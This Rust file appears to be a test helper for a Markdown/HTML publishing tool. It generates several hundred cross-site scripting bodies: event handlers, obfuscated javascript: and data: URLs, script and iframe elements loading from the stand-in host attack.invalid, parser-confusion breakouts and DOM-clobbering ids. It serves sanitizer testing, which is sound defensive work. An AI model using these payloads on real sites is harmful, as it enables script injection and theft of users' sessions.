//! Hostile HTML by kind, made from a table of patterns. What runs sets `hacked`; what is fetched is
//! on `attack.invalid`, but for pictures, which a story may take from anywhere.

/// Those that can be published: of the others the build complains, for their addresses or because
/// they are no text. `x` must be a file beside the story.
#[allow(dead_code)] // Not every target publishes them.
pub fn published() -> Vec<String> {
    let is_fine = |attack: &String| {
        let links = xianfeng::parse::markdown::survey(attack, false).links;
        !attack.contains('\0') && links.iter().all(|link| matches!(&*link.dest, "x" | "#"))
    };
    attacks().into_iter().filter(is_fine).collect()
}

/// Several hundred bodies, each one attack.
pub fn attacks() -> Vec<String> {
    let mut all = Vec::new();
    let run = "hacked=1";

    // Attributes that run.
    for event in [
        "onload",
        "onerror",
        "onclick",
        "onmouseover",
        "onfocus autofocus",
        "ontoggle open",
        "onanimationstart",
        "onbeforeinput",
        "onpointerenter",
        "onwheel",
        "oncopy",
        "onscrollend",
        "ONERROR",
        "OnError",
    ] {
        let (event, more) = event.split_once(' ').unwrap_or((event, ""));
        for tag in ["img src=x", "a href=#", "p", "details", "table", "span", "svg", "video", "x"] {
            all.push(format!(
                "<{tag} {more} {event}={run}>甲</{}>",
                tag.split(' ').next().unwrap()
            ));
        }
    }
    for pattern in [
        "<img src=x\nonerror=R>",
        "<img\tsrc=x\u{c}onerror='R'>",
        "<img/src=x/onerror=R>",
        "<img src=\"x\"onerror=\"R\">",
        "<img src=x onerror=\"R\" alt=`>",
        "<img src=`x` alt=甲 ` onerror=R `>",
        "<img \"\"\"><img src=x onerror=R>\">",
        "<img src=x:alert(alt) onerror=R alt=0>",
        "<img src=x a='>' onerror=R>",
        "<p title='\"><img src=x onerror=R>'>甲</p>",
        "<p title=\"'><script>R</script>\">甲</p>",
        "<img alt=\"<img src=x onerror=R>\" src=x>",
        "<a href=\"x\" title=\"&quot; onmouseover=&quot;R\">甲</a>",
        "<img src=\"x&quot; onerror=&quot;R\" alt=甲>",
        "<b onmouseover\u{0}=R>甲</b>",
        "<b <script>R</script>>甲</b>",
        "<b/onclick=R/>甲</b>",
        "< img src=x onerror=R>",
        "<img src=x onerror=R//",
        "<img src=x onerror=R//甲\n\n乙>",
        "<<img src=x onerror=R>>",
        "<a<img src=x onerror=R>",
        "<p\u{b}onclick=R>甲</p>",
    ] {
        all.push(pattern.replace('R', run));
    }

    // Addresses that run.
    let schemes = [
        "javascript:R",
        "JaVaScRiPt:R",
        " javascript:R",
        "\u{1}javascript:R",
        "java&#9;script:R",
        "java&Tab;script:R",
        "java&NewLine;script:R",
        "java&#x0A;script:R",
        "javascript&colon;R",
        "&#106;avascript:R",
        "&#x6A;&#x61;vascript:R",
        "&#0000106avascript:R",
        "javascript&#0058;R",
        "data:text/html,<script>R</script>",
        "data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=R>",
        "vbscript:R",
        "VBScript&Tab;:R",
        "livescript:R",
        "mocha:R",
        "feed:javascript:R",
        "view-source:javascript:R",
        "blob:R",
        "filesystem:R",
        "//attack.invalid/javascript:R",
        "\\\\attack.invalid\\x",
        "javascript://x.cn/%0aR",
        "javascript:R//https://x.cn",
    ];
    for scheme in schemes {
        let url = scheme.replace('R', run);
        for pattern in [
            "<a href=\"U\">甲</a>",
            "<a href='U' target=_top>甲</a>",
            "[甲](<U>)",
            "<img src=\"U\" alt=甲>",
            "<iframe src=\"U\"></iframe>",
            "<form action=\"U\"><input type=submit></form>",
            "<button formaction=\"U\">甲</button>",
            "<table background=\"U\"><tr><td>甲</td></tr></table>",
            "<object data=\"U\"></object>",
            "<svg><a xlink:href=\"U\"><text>甲</text></a></svg>",
            "<math href=\"U\">甲</math>",
            "<blockquote cite=\"U\">甲</blockquote>",
        ] {
            all.push(pattern.replace('U', &url));
        }
    }

    // Elements that run or fetch.
    for pattern in [
        "<script>R</script>",
        "<SCRIPT>R</SCRIPT>",
        "<script\n>R</script\n>",
        "<script/x>R</script>",
        "<script>R",
        "<scr<script>ipt>R</scr</script>ipt>",
        "<script src=//attack.invalid/x.js></script>",
        "<script src=//attack.invalid/x.js",
        "<script type=module>import 'https://attack.invalid/x.js'</script>",
        "<script>/*</script><img src=x onerror=R>*/</script>",
        "<script><!--<script></script>--></script><b>R</b>",
        "甲<script>R</script>乙",
        "> <script>R</script>",
        "- <script>R</script>",
        "| a |\n|---|\n| <script>R</script> |",
        "## <script>R</script>题",
        "<style>@import '//attack.invalid/x.css';</style>",
        "<style>*{background:url(//attack.invalid/x.png)}</style>",
        "<style></style><img src=x onerror=R>",
        "<p style=\"background:url(//attack.invalid/x.png)\">甲</p>",
        "<p style=\"width:expression(R)\">甲</p>",
        "<p style=\"behavior:url(//attack.invalid/x)\">甲</p>",
        "<link rel=stylesheet href=//attack.invalid/x.css>",
        "<link rel=prefetch href=//attack.invalid/x>",
        "<meta http-equiv=refresh content=\"0;url=//attack.invalid/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:R\">",
        "<base href=//attack.invalid/><a href=x>甲</a>",
        "<iframe src=//attack.invalid/></iframe>",
        "<iframe srcdoc=\"<script>top.R</script>\"></iframe>",
        "<iframe><img src=x onerror=R></iframe>",
        "<frameset><frame src=//attack.invalid/></frameset>",
        "<object data=//attack.invalid/x.swf></object>",
        "<object><param name=src value=//attack.invalid/></object>",
        "<embed src=//attack.invalid/x.swf>",
        "<applet code=x archive=//attack.invalid/x.jar>甲</applet>",
        "<form action=//attack.invalid/><input name=x><button>甲</button></form>",
        "<input autofocus onfocus=R>",
        "<input type=image src=//attack.invalid/x.png>",
        "<isindex action=//attack.invalid/ type=image>",
        "<video poster=//attack.invalid/x.png src=//attack.invalid/x.mp4 autoplay onloadstart=R></video>",
        "<audio src=//attack.invalid/x.mp3 autoplay onerror=R></audio>",
        "<video><source onerror=R></video>",
        "<picture><source srcset=//attack.invalid/x.png><img src=x alt=甲></picture>",
        "<img srcset=\"//attack.invalid/x.png 2x\" src=x alt=甲>",
        "<img lowsrc=//attack.invalid/x.png dynsrc=//attack.invalid/x src=x alt=甲>",
        "<body background=//attack.invalid/x.png onload=R>甲</body>",
        "<table background=//attack.invalid/x.png><tr><td background=//attack.invalid/y.png>甲</table>",
        "<bgsound src=//attack.invalid/x.mp3>",
        "<marquee onstart=R>甲</marquee>",
        "<keygen autofocus onfocus=R>",
        "<portal src=//attack.invalid/></portal>",
        "<a href=x ping=//attack.invalid/>甲</a>",
        "<a href=#x id=x name=location>甲</a>",
        "<dialog open onclose=R>甲</dialog>",
        "<template><script>R</script></template>",
        "<template shadowrootmode=open><script>R</script></template>",
        "<slot onslotchange=R></slot>",
        "<x is=y onclick=R>甲</x>",
        "<?xml-stylesheet href=\"javascript:R\"?>",
        "<?import namespace=t implementation=//attack.invalid/?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"//attack.invalid/\">]>&y;",
        "<!--#exec cmd=\"R\"-->",
        "<xml id=x><x><![CDATA[<img src=x onerror=R>]]></x></xml>",
    ] {
        all.push(pattern.replace('R', run));
    }

    // What one parser reads as text and another as tags.
    let inner = "<img src=x onerror=R>";
    for outer in [
        "noscript",
        "noembed",
        "noframes",
        "xmp",
        "textarea",
        "title",
        "style",
        "iframe",
        "plaintext",
        "select",
        "option",
        "template",
        "listing",
        "svg",
        "math",
        "p",
        "table",
        "pre",
        "code",
        "rt",
    ] {
        for pattern in [
            "<O>I</O>",
            "<O><p title=\"</O>I\">甲</p></O>",
            "<O><!--</O>I--></O>",
            "<svg><O>I</O></svg>",
            "<math><mtext><O>I</O></mtext></math>",
            "<table><O>I</O></table>",
            "</O>I",
        ] {
            let pattern = pattern.replace('O', outer).replace('I', inner);
            all.push(pattern.replace('R', run));
        }
    }
    for pattern in [
        "<svg><script>R</script></svg>",
        "<svg onload=R>",
        "<svg><animate onbegin=R attributeName=x dur=1s></svg>",
        "<svg><set attributeName=onload to=R /></svg>",
        "<svg><foreignObject>I</foreignObject></svg>",
        "<svg><desc>I</desc></svg>",
        "<svg></p><style><a title=\"</style>I\">甲",
        "<svg><style><!--</style>I--></style></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>R</script></svg>#x\"/></svg>",
        "<math><annotation-xml encoding=\"text/html\">I</annotation-xml></math>",
        "<math><mi><table><mglyph><style><!--</style>I",
        "<form><math><mtext></form><form><mglyph><style></math>I",
        "<math><mtext><table><mglyph><style><math>I",
        "<!-->I-->",
        "<!--->I-->",
        "<!--x--!>I-->",
        "<!--x- -->I",
        "<!-- -- >I-->",
        "<!--\n\n-->I",
        "<![CDATA[I]]>",
        "<![CDATA[>I",
        "<!x>I",
        "<?x?>I",
        "</x>I",
        "</ x>I",
        "<%>I",
        "<a title=\"甲\n\n\">I</a>",
        "<div title='\n\nI'>甲</div>",
        "<p><b title=\"</p>I\">甲</b></p>",
        "`<b>`I",
        "```\n</code></pre>I\n```",
        "&lt;img src=x onerror=R&gt;",
        "&#60;img src=x onerror=R&#62;",
        "\\<img src=x onerror=R>",
        "＜img src=x onerror=R＞",
        "<img src=x onerror=R&gt;",
        "[甲](x \"I\")",
        "![I](x)",
        "![甲](<x\" onerror=\"R>)",
        "[<img src=x onerror=R>](x)",
        "<a href=\"[甲](javascript:R)\">乙</a>",
        "[甲](javascript:R \"<b>\")",
        "<http://x.cn/\"onclick=R>",
        "https://x.cn/<img src=x onerror=R>",
        "[^1]\n\n[^1]: I",
        "甲\n: I",
        "\u{fdd0}<b>\u{fdd1}0\u{fdd2}I</b>",
    ] {
        all.push(pattern.replace('I', inner).replace('R', run));
    }

    // Tags that would close ours, and ids that hide what scripts look for.
    for pattern in [
        "</p></div></main></body></html>甲",
        "- 甲</li></ul></div>乙\n- 丙",
        "> </blockquote></div>甲",
        "**甲</strong></p>乙**",
        "| a |\n|---|\n| 甲</td></tr></table></div>乙 |",
        "## 甲</h2></article>乙",
        "[甲</a></p>](x)",
        "</section></article><footer>甲",
        "甲[^1]\n\n[^1]: </li></ol></section>乙",
        "<div></div></div></div>甲",
        "<table><tr><td>甲",
        "<a href=x>甲<a href=y>乙",
        "<p><p><p>甲</b></i></u>",
        "<b><i><u>甲</b></i></u>乙",
        "<details><summary>甲<details>乙</details>",
        "<ul><li><table><li>甲</table>",
        "<img name=getElementById src=x alt=甲><img id=cookie src=x alt=乙>",
        "<form id=document><input name=body></form>",
        "<a id=xf-notes name=xf-note-1>甲</a>",
        "<a id=a></a><a id=a name=href>甲</a>",
        "<h2 id=xf-ref-1 class=xf-problem>甲</h2>",
        "<p data-search-body data-x=y role=alert aria-hidden=true contenteditable draggable=true slot=x is=x>甲</p>",
        "<td colspan=1e9 rowspan=-1>甲</td>",
        "<table><tr><td colspan=99999999999999999999 rowspan=99999>甲</td></tr></table>",
        "<img src=x alt=甲 width=999999999 height=-5>",
        "<ol start=\"1;alert(1)\"><li>甲</ol>",
        "<p align=\"center;x\">甲</p><p align='\"><script>R'>乙</p>",
    ] {
        all.push(pattern.replace('R', run));
    }
    all
}
